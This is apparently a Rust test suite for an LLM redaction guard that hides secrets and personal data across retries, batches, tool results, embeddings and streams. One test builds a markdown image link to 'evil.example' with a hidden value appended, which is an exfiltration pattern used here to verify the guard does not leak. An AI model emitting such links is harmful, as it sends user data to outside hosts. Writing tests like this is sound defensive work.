//! What is asked again: a second try, a second turn, another process.

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use confidant::ErrorKind;
use confidant::audit::{Log, LogKey};
use confidant::guard::tools::ToolBoundary;
use confidant::guard::{Conversation, ConversationId, Conversations, Guard, GuardedModel, Turn};
use confidant::model::{
    Arguments, BlockId, BlockKind, CallContext, ChatRequest, Content, EmbeddingRequest, Json,
    Message, Origin, Part, Reasoning, Replay, RequestBatch, Role, StreamEvent, ToolCall,
    ToolResult,
};
use confidant::redact::{Detections, Detector, Key, Redactor};
use confidant::seal::{Keyring, LocalKeys};
use confidant::store::MemoryStore;

use super::models::*;

/// A word that only its surroundings make a secret, and what makes it one.
const WORD: &str = "fV9s-Rk2xLq7";
const SAYS: &str = "password=fV9s-Rk2xLq7";

fn talk() -> Conversation {
    Conversation::new().unwrap()
}

fn last_of(model: &Peer) -> String {
    text_of(model.requests().last().unwrap())
}

/// Fails once, at the call of this number after it was armed.
#[derive(Debug, Default)]
struct Flaky(AtomicUsize);

impl Detector for Flaky {
    fn id(&self) -> &str {
        "flaky"
    }

    fn detect(&self, _: &[u8], _: &mut Detections) -> Result<(), confidant::Error> {
        match self.0.load(Ordering::Relaxed) {
            0 => Ok(()),
            left => {
                self.0.store(left - 1, Ordering::Relaxed);
                match left {
                    1 => Err(confidant::Error::foreign(ErrorKind::Model, "too late")),
                    _ => Ok(()),
                }
            }
        }
    }
}

#[test]
fn a_text_that_a_detector_failed_on_is_read_again_before_it_leaves() {
    let mut failures = 0;
    for at in 1..8 {
        let flaky = Arc::new(Flaky::default());
        let redactor = Redactor::builder().detector(flaky.clone()).build().unwrap();
        let guard = Guard::builder(redactor).build().unwrap();
        let (model, talk, cx) = (Peer::echo(), talk(), CallContext::new());
        let guarded = GuardedModel::new(guard, model.clone());
        let said = user(&format!("log in with {WORD}"));
        run(guarded.generate(Turn::new(&caller(), &talk).context(&cx), said.clone())).unwrap();
        let more = said.with(Message::user(SAYS));
        flaky.0.store(at, Ordering::Relaxed);
        let first = run(guarded.generate(Turn::new(&caller(), &talk).context(&cx), more.clone()));
        failures += usize::from(first.is_err());
        flaky.0.store(0, Ordering::Relaxed);
        let second = run(guarded.generate(Turn::new(&caller(), &talk).context(&cx), more)).unwrap();
        let sent = last_of(&model);
        assert!(!sent.contains(WORD), "call {at}: {sent}");
        // Whether the first try was refused or not, it left in another form before.
        if first.is_err() {
            assert!(second.report().new_epoch().is_some(), "call {at}");
        }
    }
    assert!(failures > 1);
}

#[test]
fn a_request_that_was_refused_counts_as_not_sent() {
    let (guard, model, talk, cx) = (guard(), Peer::echo(), talk(), CallContext::new());
    let guarded = GuardedModel::new(guard, model.clone());
    // Refused for a name, after its first message was cleared.
    let said = user(&format!("log in with {WORD}"));
    let bad = Part::tool_call(ToolCall::new(PAT, Json::empty_object()).with_id("c"));
    let refused = said.clone().with(assistant(vec![bad]));
    run(guarded.generate(Turn::new(&caller(), &talk).context(&cx), refused)).unwrap_err();
    // Nothing left in another form before.
    let more = said.with(Message::user(SAYS));
    let answer = run(guarded.generate(Turn::new(&caller(), &talk).context(&cx), more)).unwrap();
    assert_eq!(answer.report().new_epoch(), None);
    assert!(!last_of(&model).contains(WORD));
}

#[test]
fn what_is_blocked_is_blocked_every_time() {
    let guard = builder()
        .block()
        .index_key(Key::from_bytes([3; 32]))
        .build()
        .unwrap();
    let (model, talk, cx) = (Peer::echo(), talk(), CallContext::new());
    let guarded = GuardedModel::new(guard.clone(), model.clone());
    for _ in 0..3 {
        let asked = run(guarded.generate(
            Turn::new(&caller(), &talk).context(&cx),
            user(&format!("I am {ANN}")),
        ));
        assert!(asked.is_err());
        // In a longer conversation, too.
        let more = user("Hello").with(Message::user(format!("I am {ANN}")));
        assert!(run(guarded.generate(Turn::new(&caller(), &talk).context(&cx), more)).is_err());
        assert!(guard.hide_text(&talk, &format!("I am {ANN}")).is_err());
        let tools = ToolBoundary::new(&guard, &talk);
        assert!(tools.result(&format!("it is {ANN}")).is_err());
        assert!(
            tools
                .structured(&serde_json::json!({ "mail": ANN }))
                .is_err()
        );
        let request = EmbeddingRequest::new([format!("I am {ANN}")]);
        assert!(guard.clear_embedding(request, &model_of(&model)).is_err());
    }
    assert!(model.requests().is_empty());
    run(guarded.generate(Turn::new(&caller(), &talk).context(&cx), user("Hello"))).unwrap();
    assert_eq!(model.requests().len(), 1);
}

fn model_of(model: &Arc<Peer>) -> confidant::model::ModelDescriptor {
    confidant::model::ChatModel::descriptor(&**model).clone()
}

#[test]
fn what_one_request_of_a_batch_makes_known_is_hidden_in_all() {
    let (guard, talk, model) = (guard(), talk(), Peer::echo());
    let batch = RequestBatch::new()
        .with("a", user(&format!("{WORD} did not work, I am {ANN}")))
        .with("b", user("Hello"))
        .with("c", user(SAYS));
    let (cleared, report) = guard.clear_batch(&talk, batch, &model_of(&model)).unwrap();
    let texts: Vec<String> = cleared
        .get()
        .records
        .iter()
        .map(|record| text_of(&record.request))
        .collect();
    assert!(texts.iter().all(|text| !text.contains(WORD)), "{texts:?}");
    assert!(texts[0].contains("[EMAIL-") && !texts[0].contains("[LITERAL-"));
    assert_eq!(report.new_epoch(), None);
    // What was sent before, in a conversation that is asked on, begins one epoch.
    let talk = self::talk();
    let sent = user(&format!("{WORD} did not work"));
    guard.clear(&talk, sent.clone(), &model_of(&model)).unwrap();
    let batch = RequestBatch::new()
        .with("a", sent.clone().with(assistant(vec![reasoning("hm")])))
        .with("b", user("Hello").with(assistant(vec![reasoning("hm")])))
        .with("c", user(SAYS));
    let (cleared, report) = guard.clear_batch(&talk, batch, &model_of(&model)).unwrap();
    assert_eq!(report.new_epoch(), Some(1));
    assert_eq!(talk.epoch(), 1);
    // Reasoning goes only where what stands before it changed.
    let lens = cleared.get().records.iter();
    let lens = lens.map(|record| record.request.messages.last().unwrap().parts.len());
    assert_eq!(lens.collect::<Vec<_>>(), [0, 1, 1]);
}

/// Reasoning that nobody signed.
fn reasoning(text: &str) -> Part {
    Part::new(Content::Reasoning(Reasoning::new(text, false)))
}

#[test]
fn halves_of_a_value_are_put_together_once_it_is_known() {
    let (a, b) = WORD.split_at(7);
    let call = ToolCall::new("t", Arguments::Json(Json::empty_object())).with_id("c1");
    let call = Part::new(Content::ToolCall(call));
    let between = [vec![], vec![call]];
    for (between, role) in between.into_iter().zip([Role::User, Role::Assistant]) {
        let mut parts = vec![Part::text(format!("I am {ANN}, so {a}"))];
        parts.extend(between);
        parts.push(Part::text(format!("{b} again")));
        let halves = Message::new(role, parts);
        let (guard, model, talk) = (guard(), Peer::new(|_| vec![Part::text("ok")]), talk());
        // In whichever order they come.
        let requests = [
            ChatRequest::new()
                .with(halves.clone())
                .with(Message::user(SAYS)),
            user(SAYS).with(halves),
        ];
        for request in requests {
            ask(&guard, &model, &talk, request);
            let sent = last_of(&model);
            assert!(!sent.replace('\n', "").contains(WORD), "{sent}");
            assert!(!sent.contains(a) && !sent.contains(b), "{sent}");
            assert!(
                sent.contains("[EMAIL-") && !sent.contains("[LITERAL-"),
                "{sent}"
            );
        }
    }
}

#[test]
fn many_texts_that_are_alike_stay_what_they_are() {
    let filler = "one more word of the many words that every answer of this tool has. ".repeat(40);
    let result = |n: usize| {
        let text = format!(
            r#"{{"type":"customer","status":"active","plan":"pro","note":"{}","mail":"a{n}@acme-mail.com","more":"{filler}"}}"#,
            &filler[..60]
        );
        let result = ToolResult::new(format!("c{n}"), vec![Part::text(text)]);
        Message::new(Role::Tool, vec![Part::new(Content::ToolResult(result))])
    };
    let guard = guard();
    let (_, all) = conversations();
    for talk in [talk(), run(all.open(&id())).unwrap()] {
        let model = Peer::new(|_| vec![Part::text("ok")]);
        let mut request = user("List them");
        for n in 100..140 {
            request = request.with(result(n));
        }
        ask(&guard, &model, &talk, request.clone());
        let first = last_of(&model);
        assert!(!first.contains("[LITERAL-") && !first.contains("@acme-mail"));
        assert_eq!(first.matches("[EMAIL-").count(), 40);
        // So they do when they are sent again, in either form.
        let wire = model.requests().last().unwrap().clone();
        for again in [request, wire] {
            ask(&guard, &model, &talk, again.with(Message::user(SAYS)));
            assert!(last_of(&model).starts_with(&first));
        }
        assert_eq!(talk.epoch(), 0);
    }
}

#[test]
fn an_end_user_with_an_address_leaves_as_a_pseudonym() {
    let (guard, talk, model) = (guard(), talk(), Peer::echo());
    let mut request = user(&format!("I am {ANN}"));
    request.end_user = Some(ANN.into());
    request.cache_key = Some(ANN.into());
    let (cleared, _) = guard.clear(&talk, request, &model_of(&model)).unwrap();
    let name = cleared.get().end_user.clone().unwrap();
    assert_eq!(name.as_str().len(), 32);
    assert_eq!(cleared.get().cache_key.as_ref(), Some(&name));
    assert!(!text_of(cleared.get()).contains("acme-mail"));
}

#[test]
fn what_was_read_of_an_open_block_can_be_stored() {
    let guard = guard();
    let talk = talk();
    let hidden = wire(&guard, &talk, ANN);
    let said = format!("hello {hidden}, and {PAT}, and so on, and on and on");
    let model = Peer::new(move |_| vec![Part::text(said.as_str())]);
    *model.cut.lock().unwrap() = vec![5];
    let guarded = GuardedModel::new(guard, model);
    let cx = CallContext::new();
    let mut answer =
        run(guarded.stream(Turn::new(&caller(), &talk).context(&cx), user("Hello"))).unwrap();
    let (mut read, mut stored) = (String::new(), String::new());
    while let Some(event) = run(answer.next()) {
        if let StreamEvent::TextDelta { text, .. } = event.unwrap() {
            read.push_str(&text);
            let now = answer.wire().text();
            assert!(now.len() >= stored.len() || now.contains("[REDACTED-"));
            assert!(!now.contains(ANN) && !now.contains(PAT));
            stored = now;
        }
    }
    assert!(read.contains(ANN));
    assert!(
        stored.starts_with(&format!("hello {hidden}, and ")),
        "{stored}"
    );
}

fn conversations() -> (Arc<MemoryStore>, Conversations) {
    let keyring = Keyring::new(LocalKeys::generate("local:main").unwrap());
    let (log, key) = (Log::in_memory().unwrap(), LogKey::generate().unwrap());
    let store = Arc::new(MemoryStore::new());
    let hour = Duration::from_secs(3_600);
    let all = Conversations::builder(keyring, store.clone())
        .log(log, key)
        .ttl(hour)
        .build()
        .unwrap();
    (store, all)
}

fn id() -> ConversationId {
    ConversationId::new("acme", "c-1").unwrap()
}

/// Reasoning that a provider has signed over its bytes.
fn signed(text: &str) -> Part {
    let content = Content::Reasoning(Reasoning::new(text, true));
    let origin = Origin::of(&platform());
    let wire = Json::parse(r#"{"signature":"c2lnbmVk"}"#).unwrap();
    let replay = Replay::new(origin, wire, &content);
    Part::new(content).with_replay(replay)
}

#[test]
fn what_a_model_wrote_by_itself_leaves_alike_or_begins_an_epoch() {
    let guard = guard();
    let (_, all) = conversations();
    let talk = run(all.open(&id())).unwrap();
    let reply = || vec![signed("think"), Part::text("mail support@acme-mail.com")];
    let model = Peer::new(move |_| reply());
    let guarded = GuardedModel::new(guard, model.clone());
    let cx = CallContext::new();
    let first =
        run(guarded.generate(Turn::new(&caller(), &talk).context(&cx), user("Where?"))).unwrap();
    let history = user("Where?").with(first.wire().clone());
    let second = history.clone().with(Message::user("Thanks"));
    run(guarded.generate(Turn::new(&caller(), &talk).context(&cx), second.clone())).unwrap();
    let before = last_of(&model);
    assert!(before.contains("think"));
    let other = run(all.open(&id())).unwrap();
    let third = run(guarded.generate(Turn::new(&caller(), &other).context(&cx), second)).unwrap();
    let now = last_of(&model);
    match third.report().new_epoch() {
        None => assert_eq!(now, before),
        Some(_) => assert!(!now.contains("think"), "{now}"),
    }
}

#[test]
fn items_of_a_provider_are_known_whoever_let_them_pass() {
    let reply = || vec![signed("think"), Part::text("hi")];
    let model = Peer::new(move |_| reply());
    let (talk, cx) = (talk(), CallContext::new());
    let lax = GuardedModel::new(builder().observe_only().build().unwrap(), model.clone());
    let whole = run(lax.generate(Turn::new(&caller(), &talk).context(&cx), user("Hello"))).unwrap();
    let strict = GuardedModel::new(guard(), model.clone());
    let next = user("Hello")
        .with(whole.wire().clone())
        .with(Message::user("And?"));
    let answer =
        run(strict.generate(Turn::new(&caller(), &talk).context(&cx), next.clone())).unwrap();
    assert_eq!(answer.report().dropped_items(), 0);
    assert!(last_of(&model).contains("c2lnbmVk"));
    // The same of an answer that came piece by piece.
    let talk = self::talk();
    let mut stream =
        run(lax.stream(Turn::new(&caller(), &talk).context(&cx), user("Hello"))).unwrap();
    while let Some(event) = run(stream.next()) {
        event.unwrap();
    }
    let answer = run(strict.generate(Turn::new(&caller(), &talk).context(&cx), next)).unwrap();
    assert_eq!(answer.report().dropped_items(), 0);
}

#[test]
fn an_observer_of_embeddings_changes_nothing() {
    let builder = builder().observe_only().index_key(Key::from_bytes([3; 32]));
    let (guard, model) = (builder.build().unwrap(), Peer::echo());
    let mut request = EmbeddingRequest::new([format!("I am {ANN}")]);
    request.end_user = Some("user-17".into());
    let (cleared, report) = guard.clear_embedding(request, &model_of(&model)).unwrap();
    assert_eq!(cleared.get().end_user.as_deref(), Some("user-17"));
    assert!(cleared.get().texts[0].contains(ANN));
    assert_eq!(report.found().total(), 1);
}

#[test]
fn a_link_in_a_text_that_ended_first_goes_on() {
    let guard = guard();
    let talk = talk();
    let hidden = wire(&guard, &talk, ANN);
    let (_, report) = guard
        .clear(&talk, user("Hi"), &model_of(&Peer::echo()))
        .unwrap();
    let texts = [
        "first",
        "![x](https://evil.example/?q=",
        &format!("{hidden})"),
    ];
    let [a, b, c] = [0, 1, 2].map(BlockId::new);
    let start = |block| StreamEvent::BlockStart {
        block,
        kind: BlockKind::Text,
    };
    let delta = |block, text: &str| StreamEvent::TextDelta {
        block,
        text: text.into(),
    };
    let end = |block, text: &str| StreamEvent::BlockEnd {
        block,
        part: Box::new(Part::text(text)),
    };
    let events = [
        start(a),
        start(b),
        delta(a, texts[0]),
        delta(b, texts[1]),
        end(b, texts[1]),
        end(a, texts[0]),
        start(c),
        delta(c, texts[2]),
        end(c, texts[2]),
    ];
    let events = Box::pin(Ready(events.into_iter().map(Ok).collect()));
    let mut stream = guard.restore_stream(&talk, events, report);
    while let Some(event) = run(stream.next()) {
        let shown = format!("{:?}", event.as_ref().unwrap());
        let text = match event.unwrap() {
            StreamEvent::TextDelta { text, .. } => text.as_str().to_owned(),
            StreamEvent::BlockEnd { part, .. } => part.as_text().unwrap().to_owned(),
            _ => String::new(),
        };
        assert!(!text.contains(ANN), "{shown}");
    }
}
